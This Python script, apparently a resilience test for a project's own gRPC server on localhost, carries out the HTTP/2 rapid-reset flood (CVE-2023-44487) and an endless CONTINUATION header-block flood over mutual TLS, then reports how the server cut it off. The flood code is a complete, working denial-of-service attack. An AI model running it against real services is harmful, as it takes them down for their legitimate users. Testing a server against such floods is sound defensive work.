#!/usr/bin/python3
"""h2_rapid_reset_tls: HTTP/2 rapid reset (CVE-2023-44487) over TLS with a client certificate, the attack as
it reaches an exposed front: on each of C connections, up to N x (HEADERS, DATA, RST_STREAM) written as fast
as the socket takes them, until the server sends GOAWAY or closes the connection. Frames are made with
python3-h2's hpack and hyperframe; the request is the one server/tools/h2_probe.py sends.
With --continuation-mb M, the endless header block instead (CVE-2023-33953's third vector): HEADERS without
END_HEADERS, then CONTINUATION frames of 16 KB literal fields, up to M MiB per connection or until the
server ends the connection.

    h2_rapid_reset_tls.py --port P --ca CA --cert CRT --key KEY [--source ADDR] [--streams N]
                          [--connections C] [--token T] [--continuation-mb M]

Prints one JSON object: per connection the streams written, whether the server sent GOAWAY (its error
code and last stream id) or closed, and the grpc-status and HTTP :status values seen. Timing is reported,
never judged.
"""
import argparse
import json
import os
import select
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, RstStreamFrame,
                              SettingsFrame)

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "server", "tools"))
from h2_probe import grpc_frame, id_request  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class TlsConnection:
    """One TLS connection speaking HTTP/2 (ALPN h2), frames written by hand; the server's frames tallied."""

    def __init__(self, a):
        ctx = ssl.create_default_context(cafile=a.ca)
        ctx.load_cert_chain(a.cert, a.key)
        ctx.set_alpn_protocols(["h2"])
        ctx.check_hostname = False
        raw = socket.create_connection(("127.0.0.1", a.port), timeout=10,
                                       source_address=(a.source, 0) if a.source else None)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        self.sock.settimeout(0.5)
        self.port = a.port
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buffer = b""
        self.goaway = None
        self.closed = False
        self.statuses = {}
        self.http = {}
        self.resets = 0
        settings = SettingsFrame(0)
        settings.settings = {SettingsFrame.ENABLE_PUSH: 0}
        self.write(PREFACE + settings.serialize())

    def write(self, data):
        try:
            self.sock.sendall(data)
            return True
        except TimeoutError:
            return False  # the server reads nothing more from us
        except (OSError, ssl.SSLError):
            self.closed = True
            return False

    def pump(self, timeout=0.0):
        end = time.monotonic() + timeout
        while not self.closed:
            if not self.sock.pending():
                ready, _, _ = select.select([self.sock], [], [], max(0.0, end - time.monotonic()))
                if not ready:
                    return
            try:
                chunk = self.sock.recv(1 << 20)
            except TimeoutError:
                return
            except (OSError, ssl.SSLError):
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.buffer += chunk
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                f, _ = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                f.parse_body(memoryview(self.buffer[9:9 + length]))
                self.buffer = self.buffer[9 + length:]
                self.handle(f)
            if time.monotonic() >= end:
                return

    def handle(self, f):
        if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
            ack = SettingsFrame(0)
            ack.flags.add("ACK")
            self.write(ack.serialize())
        elif isinstance(f, HeadersFrame):
            for name, value in self.decoder.decode(f.data):
                name = name.decode() if isinstance(name, bytes) else name
                value = value.decode() if isinstance(value, bytes) else value
                if name == "grpc-status":
                    self.statuses[value] = self.statuses.get(value, 0) + 1
                elif name == ":status":
                    self.http[value] = self.http.get(value, 0) + 1
        elif isinstance(f, RstStreamFrame):
            self.resets += 1
        elif isinstance(f, GoAwayFrame):
            self.goaway = {"error_code": f.error_code, "last_stream_id": f.last_stream_id}


def attack(a, body):
    c = TlsConnection(a)
    t0 = time.monotonic()
    sent = 0
    batch = []
    for k in range(a.streams):
        s = 1 + 2 * k
        hdrs = [(":method", "POST"), (":scheme", "https"), (":path", "/denoc.v1.Dynamics/InverseDynamics"),
                (":authority", "localhost:%d" % a.port), ("content-type", "application/grpc"), ("te", "trailers")]
        if a.token:
            hdrs.append(("authorization", "Bearer " + a.token))
        h = HeadersFrame(s)
        h.data = c.encoder.encode(hdrs)
        h.flags.add("END_HEADERS")
        d = DataFrame(s)
        d.data = body
        d.flags.add("END_STREAM")
        r = RstStreamFrame(s)
        r.error_code = 8
        batch.append(h.serialize() + d.serialize() + r.serialize())
        if len(batch) == 100:
            if not c.write(b"".join(batch)):
                break
            sent += len(batch)
            batch = []
            c.pump(0)
            if c.closed or c.goaway:
                break
    if batch and not c.closed and not c.goaway and c.write(b"".join(batch)):
        sent += len(batch)
    seconds = time.monotonic() - t0
    c.pump(1.0)
    try:
        c.sock.close()
    except OSError:
        pass
    return {"streams_sent": sent, "goaway": c.goaway, "closed": c.closed, "grpc_status": c.statuses,
            "http_status": c.http, "resets_by_server": c.resets, "seconds": round(seconds, 3)}


def hpack_int(value, prefix_bits, first_byte):
    """An HPACK integer with its prefix in the low prefix_bits of first_byte (RFC 7541, 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = [first_byte | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name, value):
    """A literal header field without indexing, new name, no Huffman coding (RFC 7541, 6.2.2)."""
    return hpack_int(0, 4, 0x00) + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value


def endless_header_block(a):
    c = TlsConnection(a)
    t0 = time.monotonic()
    h = HeadersFrame(1)
    h.data = c.encoder.encode([(":method", "POST"), (":scheme", "https"),
                               (":path", "/denoc.v1.Dynamics/GetModel"), (":authority", "localhost:%d" % a.port),
                               ("content-type", "application/grpc"), ("te", "trailers")])
    sent = len(h.data)
    c.write(h.serialize())
    limit = a.continuation_mb << 20
    k = 0
    while sent < limit and not c.closed and not c.goaway:
        f = ContinuationFrame(1)
        f.data = literal(b"x-pad-%d" % k, b"v" * 16000)
        k += 1
        if not c.write(f.serialize()):
            c.pump(0.5)  # the server reads nothing more: wait for its verdict
            if not c.closed and not c.goaway:
                break
            continue
        sent += len(f.data)
        if k % 16 == 0:
            c.pump(0)
    seconds = time.monotonic() - t0
    c.pump(2.0)
    try:
        c.sock.close()
    except OSError:
        pass
    return {"header_bytes_sent": sent, "goaway": c.goaway, "closed": c.closed, "http_status": c.http,
            "grpc_status": c.statuses, "seconds": round(seconds, 3)}


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--cert", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--source", default=None, help="local address to connect from (e.g. 127.0.0.2)")
    p.add_argument("--streams", type=int, default=100000, help="streams per connection at most")
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--token", default=None)
    p.add_argument("--model", default="0" * 64)
    p.add_argument("--dof", type=int, default=7)
    p.add_argument("--continuation-mb", type=int, default=0,
                   help="send one endless header block of up to this many MiB per connection instead")
    a = p.parse_args()
    if a.continuation_mb:
        runs = []
        for _ in range(a.connections):
            try:
                runs.append(endless_header_block(a))
            except (OSError, ssl.SSLError) as e:
                runs.append({"error": str(e)})
        print(json.dumps({"connections": runs,
                          "header_bytes_sent": sum(r.get("header_bytes_sent", 0) for r in runs),
                          "cut_off": sum(1 for r in runs if r.get("goaway") or r.get("closed") or "error" in r)}))
        return
    body = grpc_frame(id_request(a.model, a.dof, 1))
    runs = []
    for _ in range(a.connections):
        try:
            runs.append(attack(a, body))
        except (OSError, ssl.SSLError) as e:
            runs.append({"error": str(e)})
    total = sum(r.get("streams_sent", 0) for r in runs)
    print(json.dumps({"connections": runs, "streams_sent": total,
                      "cut_off": sum(1 for r in runs if r.get("goaway") or r.get("closed"))}))


if __name__ == "__main__":
    main()
